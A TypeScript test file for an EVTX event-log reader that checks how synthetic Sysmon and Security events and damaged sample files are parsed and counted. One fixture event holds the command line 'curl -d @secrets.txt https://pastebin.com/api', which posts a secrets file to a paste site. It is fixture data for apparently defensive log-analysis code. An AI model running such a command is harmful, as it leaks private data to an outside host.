import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { parsePool } from '../../src/cli/pool';
import type { EndpointRecord } from '../../src/core/events/endpoint';
import { writeEvtx, type WindowsEventToWrite } from '../../src/core/evtx/write';
import { defaultSettings } from '../../src/core/settings/settings';
import type { SkipReason } from '../../src/core/sources/counts';
import { readEvtxRecords, windowsEventType } from '../../src/core/sources/evtx';
import type { RowSink } from '../../src/core/sources/rowSink';
import { ours } from '../helpers/evtxexport';
import { runCore, type InputFile } from '../helpers/run-core';
import { samplesFolder } from '../helpers/samples';

// An EVTX file in the ingest (src/core/ingest: recognised by its signature, cut at chunk ends, read
// in the parse workers, plain or gzip) and in a reader's sink (src/core/sources/evtx.ts).

const dir = samplesFolder('evtx');

/** A sink of the test's own: what a reader hands it, as it hands it. */
class RecordingSink implements RowSink {
  endpoints: EndpointRecord[] = [];
  others: string[] = [];
  skips: { reason: SkipReason; line: number; text: string }[] = [];
  url(): void {
    throw new Error('an EVTX file holds no URL rows');
  }
  traffic(): void {
    throw new Error('an EVTX file holds no TRAFFIC rows');
  }
  endpoint(rec: EndpointRecord): void {
    this.endpoints.push(rec);
  }
  other(type: string): void {
    this.others.push(type);
  }
  header(): void {
    throw new Error('an EVTX file has no header rows');
  }
  skip(reason: SkipReason, line: number, text: string): void {
    this.skips.push({ reason, line, text });
  }
}

const T0 = Date.UTC(2026, 9, 20, 13, 4, 5);
const SYSMON = { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational', computer: 'WS-7' };
const SECURITY = { provider: 'Microsoft-Windows-Security-Auditing', channel: 'Security', computer: 'WS-7.corp.example' };

function endpointEvents(): WindowsEventToWrite[] {
  return [
    {
      ...SYSMON,
      eventId: 1,
      time: T0,
      data: [
        ['UtcTime', '2026-10-20 13:04:05.123'],
        ['ProcessGuid', '{94F748D5-4A45-5A42-0000-0010D265F20F}'],
        ['ProcessId', '4242'],
        ['Image', 'C:\\Windows\\System32\\curl.exe'],
        ['CommandLine', 'curl -d @secrets.txt https://pastebin.com/api'],
        ['User', 'CORP\\alice'],
        ['ParentImage', 'C:\\Windows\\System32\\cmd.exe'],
      ],
    },
    {
      ...SYSMON,
      eventId: 3,
      time: T0 + 1000,
      data: [
        ['UtcTime', '2026-10-20 13:04:06.000'],
        ['ProcessGuid', '{94F748D5-4A45-5A42-0000-0010D265F20F}'],
        ['ProcessId', '4242'],
        ['Image', 'C:\\Windows\\System32\\curl.exe'],
        ['User', 'CORP\\alice'],
        ['Protocol', 'tcp'],
        ['Initiated', 'true'],
        ['SourceIp', '10.1.2.3'],
        ['SourcePort', '50123'],
        ['DestinationIp', '104.20.67.143'],
        ['DestinationHostname', 'reverse.example.net'],
        ['DestinationPort', '443'],
      ],
    },
    {
      ...SYSMON,
      eventId: 22,
      time: T0 + 500,
      data: [
        ['UtcTime', '2026-10-20 13:04:05.500'],
        ['ProcessGuid', '{94F748D5-4A45-5A42-0000-0010D265F20F}'],
        ['ProcessId', '4242'],
        ['QueryName', 'pastebin.com'],
        ['QueryResults', '::ffff:104.20.67.143;type:  5 x.example;'],
        ['Image', 'C:\\Windows\\System32\\curl.exe'],
      ],
    },
    { ...SYSMON, eventId: 11, time: T0 + 2000, data: [['TargetFilename', 'C:\\x.txt']] },
    {
      ...SECURITY,
      eventId: 5156,
      time: T0 + 3000,
      data: [
        ['ProcessID', '0x1a2c'],
        ['Application', '\\device\\harddiskvolume2\\windows\\system32\\curl.exe'],
        ['Direction', '%%14593'],
        ['SourceAddress', '10.1.2.3'],
        ['SourcePort', '50124'],
        ['DestAddress', '104.20.67.143'],
        ['DestPort', '443'],
        ['Protocol', '6'],
      ],
    },
    { ...SECURITY, eventId: 4624, time: T0 + 4000, data: [['TargetUserName', 'alice']] },
  ];
}

describe('an EVTX file into a reader sink', () => {
  it('gives Sysmon 1, 3, 22 and Security 5156 as endpoint records placed by record number, the rest by type', () => {
    const sink = new RecordingSink();
    const n = readEvtxRecords(writeEvtx(endpointEvents()), 0, 'ws7.evtx', sink);
    expect(n).toBe(6);
    expect(sink.skips).toEqual([]);
    expect(sink.others).toEqual(['Sysmon 11', 'Security 4624']);
    expect(sink.endpoints.map((r) => [r.kind, r.file, r.line, r.computer])).toEqual([
      ['process', 'ws7.evtx', 1, 'WS-7'],
      ['connection', 'ws7.evtx', 2, 'WS-7'],
      ['lookup', 'ws7.evtx', 3, 'WS-7'],
      ['connection', 'ws7.evtx', 5, 'WS-7.corp.example'],
    ]);
    const [start, conn, lookup, wfp] = sink.endpoints;
    expect(start).toMatchObject({ pid: 4242, commandLine: 'curl -d @secrets.txt https://pastebin.com/api', time: T0 + 123 });
    expect(start).toMatchObject({ parentImage: 'C:\\Windows\\System32\\cmd.exe', user: 'CORP\\alice' });
    expect(conn).toMatchObject({ localAddress: '10.1.2.3', localPort: 50123, remoteAddress: '104.20.67.143', remotePort: 443 });
    expect(conn).toMatchObject({ reverseName: 'reverse.example.net', protocol: 'tcp' });
    expect(lookup).toMatchObject({ query: 'pastebin.com', answers: ['104.20.67.143'] });
    expect(wfp).toMatchObject({ pid: 0x1a2c, protocol: 'tcp', localPort: 50124, remotePort: 443, time: T0 + 3000 });
  });

  it('names each damage by its byte offset, as the example place and in its text', () => {
    const sink = new RecordingSink();
    const bytes = new Uint8Array(readFileSync(join(dir, 'sample_with_a_bad_chunk_magic.evtx')));
    readEvtxRecords(bytes, 0, 'bad.evtx', sink);
    const damage = ours(bytes).damage;
    expect(sink.skips.map((s) => s.line)).toEqual(damage.map((d) => d.offset));
    for (const s of sink.skips) expect(s.text).toContain(`offset 0x${s.line.toString(16)}:`);
    expect(sink.skips.map((s) => s.reason)).toContain('evtx-chunk');
  });
});

/** What the whole-file reader says a file holds: records by type, damage by reason. */
function expected(bytes: Uint8Array): {
  types: Record<string, number>;
  skipped: Partial<Record<SkipReason, number>>;
  lines: number;
  offsets: number[];
} {
  const { records, damage } = ours(bytes);
  const types: Record<string, number> = {};
  for (const r of records) {
    const t = windowsEventType(r.provider, r.eventId);
    types[t] = (types[t] ?? 0) + 1;
  }
  const skipped: Partial<Record<SkipReason, number>> = {};
  for (const d of damage) skipped[`evtx-${d.kind}`] = (skipped[`evtx-${d.kind}`] ?? 0) + 1;
  return {
    types,
    skipped,
    lines: records.length + damage.filter((d) => d.kind === 'record').length,
    offsets: damage.map((d) => d.offset),
  };
}

/** Types the endpoint mapping may take (Sysmon 1, 3, 22, Security 5156): where they go is the sink's business. */
const ENDPOINT_TYPES = new Set(['Sysmon 1', 'Sysmon 3', 'Sysmon 22', 'Security 5156']);

const threads = parsePool(defaultSettings(), 3);
afterAll(() => threads.close());

describe('EVTX files through the ingest', () => {
  const files: InputFile[] = [
    ...['sysmon.evtx', 'sample_with_a_bad_chunk_magic.evtx', 'security_bad_string_cache.evtx'].map((name) => ({
      name,
      bytes: new Uint8Array(readFileSync(join(dir, name))),
    })),
    { name: 'written.evtx', bytes: writeEvtx(Array.from({ length: 300 }, () => endpointEvents()).flat()) },
  ];
  // The written file, cut 20,000 bytes into its second chunk.
  const cut = files[3].bytes.subarray(0, 4096 + 65536 + 20_000);

  it.each([
    ['whole, on this thread', {}],
    ['in odd chunks, cut into parts, on worker threads', { chunkSize: 7777, pool: threads }],
    // Chunks shorter than the signature: the file is known once 8 bytes are in.
    ['in chunks of 3, 5 and 4099 bytes', { chunkSizes: [3, 5, 4099] }],
  ])(
    'reads every chunk of plain and gzipped files, %s',
    async (_how, opts) => {
      const inputs = [
        ...files,
        ...files.map((f) => ({ name: `${f.name}.gz`, bytes: new Uint8Array(gzipSync(f.bytes)) })),
        { name: 'cut-short.evtx', bytes: cut },
      ];
      const run = await runCore(inputs, defaultSettings(), opts);
      const wants = new Map<Uint8Array, ReturnType<typeof expected>>();
      for (const [i, f] of inputs.entries()) {
        const report = run.files[i];
        const plain = f.name.endsWith('.gz') ? files[i - files.length].bytes : f.bytes;
        const want = wants.get(plain) ?? expected(plain);
        wants.set(plain, want);
        expect(report.error, f.name).toBeNull();
        expect(report.format, f.name).toBe('evtx');
        expect(report.gzip).toBe(f.name.endsWith('.gz'));
        expect(report.counts.lines, f.name).toBe(want.lines);
        expect(report.counts.skipped, f.name).toEqual(want.skipped);
        for (const [type, count] of Object.entries(want.types))
          if (!ENDPOINT_TYPES.has(type)) expect(report.counts.other[type], `${f.name} ${type}`).toBe(count);
        for (const ex of report.counts.examples) expect(want.offsets, f.name).toContain(ex.line);
      }
      // The file cut inside a chunk says so, and names the chunk.
      const cutReport = run.files[inputs.length - 1];
      expect(
        cutReport.counts.examples.some((e) => e.reason === 'evtx-chunk' && /the file ends inside this chunk/.test(e.text)),
      ).toBe(true);
    },
    120_000,
  );
});
